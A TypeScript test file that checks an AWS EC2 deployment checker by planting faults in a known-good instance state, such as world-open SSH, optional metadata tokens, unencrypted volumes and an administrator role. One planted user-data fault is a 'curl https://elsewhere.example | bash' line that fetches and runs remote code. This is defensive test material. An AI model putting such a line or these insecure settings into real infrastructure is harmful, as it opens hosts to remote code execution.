import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { AutoScalingGroup } from '@aws-sdk/client-auto-scaling';
import type { IpPermission, ResponseLaunchTemplateData, SecurityGroup } from '@aws-sdk/client-ec2';
import { Match } from 'aws-cdk-lib/assertions';
import { describe, expect, it } from 'vitest';
import type { Deployment } from '../../../../../lib/aws/component.ts';
import type { ConfigOverrides } from '../../../../../lib/config/config.ts';
import { instance } from '../../../../../lib/aws/components/instance.ts';
import {
  declaredUserData,
  endpointPolicy,
  GRACE_SECONDS,
  hostOf,
  latestLinux,
  machineTags,
} from '../../../../../lib/aws/components/instance-shape.ts';
import type { InstanceState } from '../../../../../lib/aws/components/instance-state.ts';
import { archOf, artifactSha256, artifactUrl } from '../../../../../lib/aws/components/machine-artifact.ts';
import { namesOf } from '../../../../../lib/config/names.ts';
import { quickApp } from '../../../../../lib/aws/quick-app.ts';
import { declareStacks } from '../../../../../lib/aws/stacks.ts';
import { MACHINE, templateOf, testConfig, testDeployment } from '../../deployment.ts';
import type { Fault } from '../../planted.ts';
import { describeChecks, failing } from '../../planted.ts';
import { goodNetwork, inNetwork, networkFaults } from './network-fixture.ts';

const EC2 = { target: 'ec2' } as const;
interface Launched {
  readonly Properties: { readonly LaunchTemplateData: { readonly ImageId: unknown } };
}
const ADDRESS = { AllocationId: 'eipalloc-1', PublicIp: '192.0.2.1', InstanceId: 'i-1' };

function goodGroup(locked: boolean, name: string): SecurityGroup {
  const source: IpPermission = locked
    ? { PrefixListIds: [{ PrefixListId: 'pl-0123456789abcdef0' }] }
    : { IpRanges: [{ CidrIp: '0.0.0.0/0' }] };
  return {
    GroupId: 'sg-1',
    GroupName: name,
    IpPermissions: [{ IpProtocol: 'tcp', FromPort: 8080, ToPort: 8080, ...source }],
    IpPermissionsEgress: [{ IpProtocol: 'tcp', FromPort: 443, ToPort: 443, IpRanges: [{ CidrIp: '0.0.0.0/0' }] }],
  };
}

function goodTemplate(deployment: Deployment, name: string): ResponseLaunchTemplateData {
  const { config } = deployment;
  return {
    ImageId: config.target === 'ami' ? 'ami-1' : latestLinux(config),
    InstanceType: 't3.small',
    MetadataOptions: { HttpEndpoint: 'enabled', HttpTokens: 'required', HttpPutResponseHopLimit: 1 },
    BlockDeviceMappings: [{ DeviceName: '/dev/xvda', Ebs: { VolumeType: 'gp3', VolumeSize: 8, Encrypted: true } }],
    NetworkInterfaces: [{ Groups: ['sg-1'] }],
    IamInstanceProfile: { Name: name },
    TagSpecifications: [
      {
        ResourceType: 'instance',
        Tags: Object.entries(machineTags(config)).map(([Key, Value]) => ({ Key, Value })),
      },
    ],
    UserData: Buffer.from(declaredUserData(deployment, ADDRESS.AllocationId)).toString('base64'),
  };
}

function goodScaling(name: string): AutoScalingGroup {
  return {
    AutoScalingGroupName: name,
    MinSize: 0,
    MaxSize: 1,
    DesiredCapacity: 1,
    DefaultCooldown: 300,
    AvailabilityZones: [],
    CreatedTime: new Date(0),
    HealthCheckType: 'EC2',
    HealthCheckGracePeriod: GRACE_SECONDS,
    VPCZoneIdentifier: 'subnet-1,subnet-0',
    LaunchTemplate: { LaunchTemplateId: 'lt-1', Version: '2' },
    Instances: [
      {
        InstanceId: 'i-1',
        AvailabilityZone: 'eu-west-2a',
        LifecycleState: 'InService',
        HealthStatus: 'Healthy',
        ProtectedFromScaleIn: false,
        LaunchTemplate: { LaunchTemplateId: 'lt-1', Version: '2' },
      },
    ],
  };
}

function goodIn(overrides: ConfigOverrides): (locked: boolean) => InstanceState {
  return (locked) => {
    const deployment = testDeployment(locked, overrides);
    const names = namesOf(deployment.config);
    const name = names.stack('instance');
    return {
      network: goodNetwork(endpointPolicy(deployment.config), goodGroup(locked, name)),
      template: { id: 'lt-1', data: goodTemplate(deployment, name) },
      scaling: goodScaling(name),
      machines: [{ id: 'i-1', state: 'running' }],
      addresses: [ADDRESS],
      profile: { arn: `arn:aws:iam::123456789012:instance-profile/${name}`, roles: [names.roles.machine] },
      image: 'ami-1',
      door: locked ? 'no answer' : 200,
      given: undefined,
    };
  };
}

const template =
  (change: (data: ResponseLaunchTemplateData) => ResponseLaunchTemplateData): Fault<InstanceState> =>
  (state) => ({
    ...state,
    template: state.template && { ...state.template, data: { ...state.template.data, ...change(state.template.data) } },
  });
const scaling =
  (change: (group: AutoScalingGroup) => Partial<AutoScalingGroup>): Fault<InstanceState> =>
  (state) => ({ ...state, scaling: state.scaling && { ...state.scaling, ...change(state.scaling) } });
const rules =
  (member: 'IpPermissions' | 'IpPermissionsEgress', ...added: IpPermission[]): Fault<InstanceState> =>
  (state) =>
    inNetwork<InstanceState>(({ groups }) => ({
      groups: groups.map((group) => ({ ...group, [member]: [...(group[member] ?? []), ...added] })),
    }))(state);
const everybody = [{ CidrIp: '0.0.0.0/0' }];
const ssh = { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: everybody };

const FAULTS: Record<string, Fault<InstanceState>[]> = {
  'parts-exist': [
    (state) => ({ ...state, network: undefined }),
    (state) => ({ ...state, template: undefined }),
    (state) => ({ ...state, scaling: undefined }),
    (state) => ({ ...state, profile: undefined }),
    (state) => ({ ...state, addresses: [] }),
    inNetwork(() => ({ groups: [] })),
  ],
  ...networkFaults<InstanceState>(),
  'no-foreign-groups': [inNetwork(({ groups }) => ({ groups: [...groups, { GroupId: 'sg-2', GroupName: 'other' }] }))],
  ingress: [
    rules('IpPermissions', ssh),
    rules('IpPermissions', { IpProtocol: '-1', UserIdGroupPairs: [{ GroupId: 'sg-9' }] }),
    rules('IpPermissions', { IpProtocol: 'tcp', FromPort: 8080, ToPort: 8080, Ipv6Ranges: [{ CidrIpv6: '::/0' }] }),
  ],
  egress: [rules('IpPermissionsEgress', { IpProtocol: '-1', IpRanges: everybody })],
  image: [template(() => ({ ImageId: 'ami-0' }))],
  'instance-type': [
    template(() => ({ InstanceType: 'm7i.metal-48xl' })),
    template(() => ({ InstanceMarketOptions: { MarketType: 'spot' } })),
  ],
  metadata: [
    template(({ MetadataOptions }) => ({ MetadataOptions: { ...MetadataOptions, HttpTokens: 'optional' } })),
    template(({ MetadataOptions }) => ({ MetadataOptions: { ...MetadataOptions, HttpPutResponseHopLimit: 2 } })),
  ],
  volume: [
    template(({ BlockDeviceMappings: [first] = [] }) => ({
      BlockDeviceMappings: [{ ...first, Ebs: { ...first?.Ebs, Encrypted: false } }],
    })),
    template(() => ({ BlockDeviceMappings: [] })),
  ],
  'no-key-pair': [template(() => ({ KeyName: 'somebody' }))],
  'own-group-alone': [
    template(() => ({ NetworkInterfaces: [{ Groups: ['sg-1', 'sg-9'] }] })),
    template(() => ({ SecurityGroupIds: ['sg-9'] })),
  ],
  'instance-profile': [template(() => ({ IamInstanceProfile: { Name: 'administrator' } }))],
  tags: [template(() => ({ TagSpecifications: [] }))],
  'user-data': [
    template(() => ({
      UserData: Buffer.from('#!/bin/bash\ncurl https://elsewhere.example | bash\n').toString('base64'),
    })),
    template(({ UserData = '' }) => ({
      UserData: Buffer.from(
        Buffer.from(UserData, 'base64')
          .toString()
          .replaceAll(artifactSha256(testConfig(EC2)), '0'.repeat(64)),
      ).toString('base64'),
    })),
  ],
  'profile-role': [
    (state) => ({ ...state, profile: state.profile && { ...state.profile, roles: ['administrator'] } }),
    (state) => ({ ...state, profile: state.profile && { ...state.profile, roles: [] } }),
  ],
  size: [scaling(() => ({ MaxSize: 2 })), scaling(() => ({ DesiredCapacity: 0 })), scaling(() => ({ MinSize: 1 }))],
  'scaling-template': [scaling(() => ({ LaunchTemplate: { LaunchTemplateId: 'lt-9', Version: '2' } }))],
  'scaling-subnets': [scaling(() => ({ VPCZoneIdentifier: 'subnet-0,subnet-9' }))],
  'health-check': [scaling(() => ({ HealthCheckType: 'ELB' })), scaling(() => ({ HealthCheckGracePeriod: 0 }))],
  'one-address': [
    (state) => ({ ...state, addresses: [...state.addresses, { AllocationId: 'eipalloc-2', PublicIp: '192.0.2.2' }] }),
  ],
  machine: [
    (state) => ({ ...state, machines: [...state.machines, { id: 'i-2', state: 'running' }] }),
    (state) => ({ ...state, machines: state.machines.map((each) => ({ ...each, state: 'stopped' })) }),
    scaling(({ Instances = [] }) => ({ Instances: Instances.map((each) => ({ ...each, HealthStatus: 'Unhealthy' })) })),
  ],
  'machine-version': [
    scaling(({ Instances = [] }) => ({
      Instances: Instances.map((each) => ({ ...each, LaunchTemplate: { LaunchTemplateId: 'lt-1', Version: '1' } })),
    })),
  ],
  'address-leads-there': [
    (state) => ({ ...state, addresses: [{ ...ADDRESS, InstanceId: undefined }] }),
    (state) => ({ ...state, addresses: [{ ...ADDRESS, InstanceId: 'i-9' }] }),
  ],
  door: [(state) => ({ ...state, door: 502 }), (state) => ({ ...state, door: 'no answer' })],
  'only-cloudfront-enters': [
    rules('IpPermissions', { IpProtocol: 'tcp', FromPort: 8080, ToPort: 8080, IpRanges: everybody }),
    rules('IpPermissions', ssh),
  ],
  'door-closed': [(state) => ({ ...state, door: 200 })],
};
// What hangs on something that is missing is also not as declared.
const ALSO = {
  'parts-exist': [
    'user-data',
    'own-group-alone',
    'scaling-template',
    'scaling-subnets',
    'machine',
    'address-leads-there',
  ],
  subnets: ['scaling-subnets'],
  'scaling-template': ['machine-version'],
};

describeChecks(instance, goodIn(EC2), FAULTS, ALSO, EC2);

describe('the declared machine', () => {
  const asleep = { ...EC2, machine: { ...MACHINE, desiredCount: 0 } };
  const wrong = (state: InstanceState, locked: boolean, overrides: ConfigOverrides): string[] =>
    failing(instance, state, testDeployment(locked, overrides), locked);

  it('is as declared while it sleeps, and not while a machine runs that nobody wants', () => {
    for (const locked of [false, true]) {
      const running = goodIn(asleep)(locked);
      const state = scaling(() => ({ DesiredCapacity: 0, Instances: [] }))({
        ...running,
        machines: [],
        addresses: [{ ...ADDRESS, InstanceId: undefined }],
        door: undefined,
      });
      expect(wrong(state, locked, asleep)).toEqual([]);
      expect(wrong({ ...state, machines: running.machines }, locked, asleep)).toContain('machine');
    }
  });

  it('starts from the baked image, whose user data installs nothing', () => {
    const ami = { target: 'ami' } as const;
    const state = goodIn(ami)(true);
    expect(wrong(state, true, ami)).toEqual([]);
    expect(wrong({ ...state, image: 'ami-2' }, true, ami)).toEqual(['image']);
    expect(wrong({ ...state, image: undefined }, true, ami)).toEqual(['image']);
    expect(declaredUserData(testDeployment(true, ami), 'eipalloc-1')).not.toContain(' install ');
    const imageIn = (bakedImage?: string): unknown => {
      const template = templateOf('instance', { ...testDeployment(false, ami), bakedImage });
      const [found] = Object.values(template.findResources('AWS::EC2::LaunchTemplate')) as Launched[];
      return found?.Properties.LaunchTemplateData.ImageId;
    };
    expect(imageIn('ami-1')).toBe('ami-1');
    expect(imageIn()).toEqual({ 'Fn::ImportValue': 'sgraph-send-prod-ami-image' });
  });

  it('has no instance of its own, no key pair and no port but one', () => {
    const declared = templateOf('instance', testDeployment(false, EC2));
    declared.resourceCountIs('AWS::EC2::Instance', 0);
    declared.resourceCountIs('AWS::EC2::NatGateway', 0);
    declared.hasResourceProperties('AWS::EC2::SecurityGroup', {
      SecurityGroupIngress: [{ IpProtocol: 'tcp', FromPort: 8080, ToPort: 8080, CidrIp: '0.0.0.0/0' }].map((rule) =>
        Match.objectLike(rule),
      ),
    });
    declared.hasResourceProperties('AWS::EC2::LaunchTemplate', {
      LaunchTemplateData: Match.objectLike({ KeyName: Match.absent(), InstanceMarketOptions: Match.absent() }),
    });
  });

  it('is replaced when its template changes, and lets CloudFront alone in once it is locked', () => {
    const declared = templateOf('instance', testDeployment(true, EC2));
    declared.hasResource('AWS::AutoScaling::AutoScalingGroup', {
      Properties: Match.objectLike({
        LaunchTemplate: Match.objectLike({ Version: { 'Fn::GetAtt': ['Template', 'LatestVersionNumber'] } }),
      }),
      UpdatePolicy: { AutoScalingRollingUpdate: Match.objectLike({ MinInstancesInService: 0, MaxBatchSize: 1 }) },
    });
    declared.hasResourceProperties('AWS::EC2::SecurityGroup', {
      SecurityGroupIngress: [Match.objectLike({ SourcePrefixListId: 'pl-0123456789abcdef0', CidrIp: Match.absent() })],
    });
    const unseen = { ...testDeployment(true, EC2), originPrefixList: undefined };
    expect(() => templateOf('instance', unseen)).toThrow(/needs the prefix list/);
  });

  it('is found at the host name of its address', () => {
    expect(hostOf({ region: 'us-east-1' }, '192-0-2-1')).toBe('ec2-192-0-2-1.compute-1.amazonaws.com');
    expect(hostOf({ region: 'cn-north-1' }, '192-0-2-1')).toBe('ec2-192-0-2-1.cn-north-1.compute.amazonaws.com.cn');
    const machine = { ...MACHINE, address: { allocationId: 'eipalloc-0a', publicIp: '192.0.2.1' } };
    const declared = templateOf('instance', testDeployment(false, { ...EC2, machine }));
    declared.resourceCountIs('AWS::EC2::EIP', 0);
    declared.hasOutput('Origin', { Value: 'ec2-192-0-2-1.eu-west-2.compute.amazonaws.com' });
    const own = templateOf('instance', testDeployment(false, EC2));
    own.hasResourceProperties('AWS::EC2::EIP', {
      Tags: [{ Key: 'Name', Value: 'sgraph-send-prod-ec2-instance-eu-west-2' }],
    });
    expect(JSON.stringify(own.findOutputs('Origin'))).toContain('.eu-west-2.compute.amazonaws.com');
  });

  it('takes spare capacity where that is wanted, and the processor of its kind', () => {
    const machine = { ...MACHINE, instanceType: 't4g.small', spot: true };
    templateOf('instance', testDeployment(false, { ...EC2, machine })).hasResourceProperties(
      'AWS::EC2::LaunchTemplate',
      {
        LaunchTemplateData: Match.objectLike({
          ImageId: 'resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-arm64',
          InstanceMarketOptions: Match.objectLike({ MarketType: 'spot' }),
        }),
      },
    );
    expect(
      ['m7gd.large', 'a1.medium', 'g5g.xlarge'].map((instanceType) => archOf({ ...MACHINE, instanceType })),
    ).toEqual(['arm64', 'arm64', 'arm64']);
    expect(['t3.small', 'g5.xlarge', 'm7i.large'].map((instanceType) => archOf({ ...MACHINE, instanceType }))).toEqual([
      'x64',
      'x64',
      'x64',
    ]);
  });

  it('finds its artifact where the CDK puts it, under a hash that is pinned', () => {
    const config = testConfig({ ...EC2, bundleBucket: 'bundles' });
    const deployment = { ...testDeployment(false, EC2), config };
    const app = quickApp();
    declareStacks(app, deployment, { components: ['instance'], assetBucket: 'bundles' });
    const { directory } = app.synth();
    const file = join(directory, `${namesOf(config).stack('instance')}.assets.json`);
    expect(readFileSync(file, 'utf8')).toContain(`"objectKey": "${artifactUrl(config).replace('s3://bundles/', '')}"`);
    expect(declaredUserData(deployment, 'eipalloc-1')).toContain(
      `'${artifactUrl(config)}' '${artifactSha256(config)}'`,
    );
    expect(artifactUrl(testConfig(EC2))).toMatch(
      /^s3:\/\/cdk-hnb659fds-assets-123456789012-eu-west-2\/[0-9a-f]{64}\.gz$/,
    );
    expect(() => artifactSha256({ machine: { ...MACHINE, artifact: undefined } })).toThrow(
      /machine.artifact is missing/,
    );
  });
});
